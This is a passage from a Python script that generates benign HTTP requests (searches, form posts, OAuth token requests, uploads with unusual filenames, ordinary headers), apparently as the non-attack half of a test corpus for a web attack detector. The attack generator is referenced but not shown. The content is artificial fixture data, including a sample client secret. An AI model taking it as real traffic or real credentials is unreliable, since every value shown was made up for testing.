    ("grafana-reader", "Grafana dashboards: read only, owner #platform"),
    ("billing-export", "Nightly billing export (replaces the old PHP cron job)"),
    ("pentest-2024q2", "Temporary client for the external penetration test, disable after 30 June"),
    ("support-tools", "Support tooling: look up a user's alert settings & time zone"),
    ("ci:integration", "CI integration tests against staging <read + write>"),
    ("status.page", "Status page probe; calls /api/users?limit=1 every minute"),
    ("data-team", "Data team's notebook (Python); scopes: read"),
    ("legacy-wiki", "Old PHP wiki plugin that shows who's on call, to be retired"),
]
COMMANDS = [
    "help", "weather Paris", "weather in Sydney tomorrow?", "remember location Ben &amp; Jerry's", "login",
    "config", "alerts on", "alerts off", "weather São Paulo", "remember location Saint-Étienne",
]
TOKEN_FORMS = [
    [("grant_type", "client_credentials"), ("scope", "read")],
    [("grant_type", "client_credentials"), ("scope", "read write")],
    [("grant_type", "client_credentials"), ("scope", "read"), ("audience", "jeeves")],
    [("grant_type", "client_credentials")],
    [("grant_type", "client_credentials"), ("client_id", "grafana-reader"), ("client_secret", "q8-Zx_3k!Lm(7)vT")],
    [("grant_type", "client_credentials"), ("scope", "clients:admin"), ("audience", "tokendealer")],
]
UPLOAD_FILE_NAMES = [
    "report.pdf", "Q2 report final.pdf", "screenshot 2024-06-12 at 10.42.png", "release-notes-v2.3.md",
    "invoice_#1042.pdf", "résumé.docx", "jeeves-logo.svg", "php-migration-plan.xlsx", "pentest-findings-2024.pdf",
    "alerts (copy).csv", "weather_paris.json", "Ann's notes.txt",
]
BENIGN_HEADERS = [
    ("User-Agent", "curl/8.5.0"),
    ("User-Agent", "python-httpx/0.27.0"),
    ("User-Agent", "GuzzleHttp/7"),
    ("User-Agent", "Symfony HttpClient/Curl"),
    ("User-Agent", "WordPress/6.5.4; https://blog.example.com"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0"),
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Mobile/15E148 Safari/604.1"),
    ("Referer", "https://localhost:8443/admin/users?q=ann&page=2"),
    ("Referer", "https://localhost:8443/me/?done=location_saved"),
    ("Referer", "https://app.slack.com/client/T061EG9R6/D0123ABCDE"),
    ("X-Request-Id", "pentest-2024q2:req-0042"),
    ("Accept-Language", "fr-CH, fr;q=0.9, en;q=0.8, de;q=0.7, *;q=0.5"),
    ("Cookie", "theme=dark; lang=en-GB; tz=Europe%2FLisbon"),
    ("Cookie", "last_search=script%20error; sidebar=collapsed"),
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(CHAT, NAME)
    n = yield from numbered((_get(_query("/api/users", [("q", q), ("page", "1")])) for q in SEARCHES),
                            f"{NAME}-search", n, "query")
    n = yield from links_and_prose(URLS, PROSE, NAME, n)
    n = yield from numbered((request("GET", "/admin/audit?" + urllib.parse.urlencode([("q", q)]),
                                     Cookie=ADMIN_COOKIE, Accept="text/html") for q in PROSE[:12]),
                            f"{NAME}-audit", n, "query")
    n = yield from numbered((_api_patch(doc) for doc in PROFILES), f"{NAME}-profile", n, "json")
    n = yield from numbered((_me_form("/me/location", [("place", p)]) for p in PLACES), f"{NAME}-place", n, "form")
    n = yield from numbered((_admin_form("/admin/clients", [("client_id", cid), ("description", d), ("scopes", "read")])
                             for cid, d in CLIENT_DESCS), f"{NAME}-client", n, "form")
    n = yield from numbered((_slack_form("/slack/commands", _command(text)) for text in COMMANDS),
                            f"{NAME}-command", n, "form")
    n = yield from numbered((request("POST", "/oauth/token", urllib.parse.urlencode(fields), FORM,
                                     Authorization=BASIC, **{"User-Agent": "python-httpx/0.27.0"})
                             for fields in TOKEN_FORMS), f"{NAME}-token", n, "form")
    n = yield from numbered((request("POST", "/me/location",
                                     SET.multipart([("csrf_token", CSRF, None), ("place", "Lisbon", None),
                                                     ("file", "hello", fn)]), MULTIPART, Cookie=ME_COOKIE)
                             for fn in UPLOAD_FILE_NAMES), f"{NAME}-upload", n, "multipart-filename")
    yield from numbered((request("GET", "/api/users?page=1", **{k: v}) for k, v in BENIGN_HEADERS),
                        f"{NAME}-header", n, "header")


if __name__ == "__main__":
    print_records(attacks(), benign())
